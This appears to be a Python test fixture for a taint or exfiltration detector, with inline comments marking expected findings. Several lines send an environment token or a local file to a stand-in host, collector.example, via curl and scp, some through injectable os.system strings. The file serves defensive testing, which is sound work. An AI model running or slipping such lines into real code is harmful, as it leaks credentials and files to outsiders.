"""Programs that send what they are given."""
import os
import subprocess


def data():
    subprocess.run(["curl", "-d", os.environ["TOKEN"], "https://collector.example/u"])  #~ source(ENVIRONMENT) f1, sink(egress.http) f1, finding(traced) f1
    os.system("curl -d '%s' https://collector.example/u" % os.environ["NAME"])  #~ source(ENVIRONMENT) f2, sink(egress.http) f2, finding(traced) f2
    subprocess.run(["echo", "-d", os.environ["TOKEN"], "https://collector.example/u"])  #~ ok


def files(path):
    subprocess.run(["curl", "-F", "file=@" + path, "https://collector.example/u"])  #~ source(FILE) f3, sink(egress.http) f3, finding(file-upload, traced) f3
    os.system("scp " + path + " desk@collector.example:/in")  #~ source(FILE) f4, sink(egress.http) f4, finding(file-upload, traced) f4
    subprocess.run(["curl", "-o", path, "https://collector.example/u"])  #~ ok
    subprocess.run(["cp", "file=@" + path, "/tmp/u"])  #~ ok
